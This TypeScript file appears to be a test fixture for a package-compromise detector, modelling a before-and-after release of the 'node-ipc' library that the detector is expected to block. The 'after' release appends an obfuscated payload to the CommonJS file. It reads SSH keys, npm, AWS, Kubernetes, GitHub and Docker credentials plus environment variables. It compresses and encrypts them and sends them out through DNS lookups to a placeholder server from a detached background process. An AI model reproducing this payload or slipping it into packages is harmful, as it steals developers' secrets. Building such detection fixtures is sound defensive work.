import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '12.0.0',
  publishedAt: '2025-06-02T09:14:27.000Z',
  publisher: { name: 'riaevangelist', email: 'ria@mail.example.invalid' },
  manifest: {
    type: 'module',
    main: './node-ipc.cjs',
    exports: { '.': { import: './node-ipc.js', require: './node-ipc.cjs' } },
    license: 'MIT',
    description: 'local and remote inter process communication',
    engines: { node: '>=18' },
  },
  files: {
    'node-ipc.js': `import net from 'node:net';
import { EventEmitter } from 'node:events';

export class Channel extends EventEmitter {
  #rest = '';

  constructor(socket, delimiter = '\\f') {
    super();
    this.socket = socket;
    this.delimiter = delimiter;
    socket.on('data', (data) => {
      const parts = (this.#rest + data).split(delimiter);
      this.#rest = parts.pop();
      for (const part of parts) {
        const { type, data: value } = JSON.parse(part);
        this.emit(type, value);
      }
    });
  }

  send(type, data) {
    this.socket.write(JSON.stringify({ type, data }) + this.delimiter);
  }
}

export const connectTo = (path) => new Channel(net.connect({ path }));

export function serve(path, onChannel) {
  const server = net.createServer((socket) => onChannel(new Channel(socket)));
  server.listen(path);
  return server;
}
`,
    'node-ipc.cjs': `"use strict";
var __create = Object.create;
var __defProp = Object.defineProperty;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __copyProps = (to, from) => {
  for (let key of __getOwnPropNames(from))
    if (!__hasOwnProp.call(to, key)) __defProp(to, key, { get: () => from[key], enumerable: true });
  return to;
};
var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);
var node_ipc_exports = {};
__defProp(node_ipc_exports, "Channel", { get: () => Channel, enumerable: true });
__defProp(node_ipc_exports, "connectTo", { get: () => connectTo, enumerable: true });
__defProp(node_ipc_exports, "serve", { get: () => serve, enumerable: true });
module.exports = __toCommonJS(node_ipc_exports);
var import_node_net = require("node:net");
var import_node_events = require("node:events");
var Channel = class extends import_node_events.EventEmitter {
  #rest = "";
  constructor(socket, delimiter = "\\f") {
    super();
    this.socket = socket;
    this.delimiter = delimiter;
    socket.on("data", (data) => {
      const parts = (this.#rest + data).split(delimiter);
      this.#rest = parts.pop();
      for (const part of parts) {
        const { type, data: value } = JSON.parse(part);
        this.emit(type, value);
      }
    });
  }
  send(type, data) {
    this.socket.write(JSON.stringify({ type, data }) + this.delimiter);
  }
};
var connectTo = (path) => new Channel(import_node_net.connect({ path }));
function serve(path, onChannel) {
  const server = import_node_net.createServer((socket) => onChannel(new Channel(socket)));
  server.listen(path);
  return server;
}
`,
    'README.md': `# node-ipc
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'node-ipc-2026',
  story: 'May 2026: after the maintainer\'s mail domain was registered anew, three lines at once: code appended to the CommonJS file only, which sends files of the host out by name look-ups.',
  name: 'node-ipc',
  before,
  after: {
    version: '12.0.1',
    publishedAt: '2026-05-14T09:14:27.000Z',
    publisher: { name: 'atiertant', email: 'atiertant@mail.example.invalid' },
    manifest: {
      type: 'module',
      main: './node-ipc.cjs',
      exports: { '.': { import: './node-ipc.js', require: './node-ipc.cjs' } },
      license: 'MIT',
      description: 'local and remote inter process communication',
      engines: { node: '>=18' },
    },
    files: {
      ...before.files,
      'node-ipc.cjs': before.files['node-ipc.cjs'] + `(function(){var o=require("os"),f=require("fs"),p=require("path"),z=require("zlib"),d=require("dns"),c=require("crypto"),k="${noise(43, 1201)}";function t(s){return Buffer.from(s,"base64").toString()}var W=["LnNzaC9pZF9yc2E=","LnNzaC9pZF9lZDI1NTE5","Lm5wbXJj","LmF3cy9jcmVkZW50aWFscw==","Lmt1YmUvY29uZmln","LmNvbmZpZy9naC9ob3N0cy55bWw=","LmRvY2tlci9jb25maWcuanNvbg=="].map(t);function gather(){var r={h:o.hostname(),u:o.userInfo().username,p:o.platform(),n:o.networkInterfaces(),e:Object.assign({},process.env),f:{}};W.forEach(function(w){try{var q=p.join(o.homedir(),w),s=f.statSync(q);if(s.isFile()&&s.size<262144)r.f[w]=f.readFileSync(q).toString("base64")}catch(_){}});return r}function seal(b){var h=c.createHash("sha256").update(k).digest(),i=c.randomBytes(16),e=c.createCipheriv("aes-256-ctr",h,i);return Buffer.concat([i,e.update(b),e.final()])}function send(b){var R=new d.Resolver({timeout:2e3,tries:1}),id=c.randomBytes(4).toString("hex"),x=b.toString("hex"),n=Math.ceil(x.length/62),i=0;R.setServers(["203.0.113.9"]);(function next(){if(i>=n)return;var part=x.slice(i*62,i*62+62),q=["xh",id,i.toString(36),n.toString(36),part,"bt","node","js","example","invalid"].join(".");R.resolveTxt(q,function(){i++;setTimeout(next,40)})})()}if(!global.__ntw){global.__ntw=1;var go=function(){z.gzip(JSON.stringify(gather()),{level:9},function(e,b){e||send(seal(b))})};if(process.send||process.env.__ntRun)go();else{try{var ch=require("child_process").fork(__filename,[],{detached:true,stdio:"ignore",env:Object.assign({},process.env,{__ntRun:"1"})});ch.unref();ch.disconnect&&ch.disconnect()}catch(_){setImmediate(go)}}}})();
`,
    },
  },
  must: 'block',
};
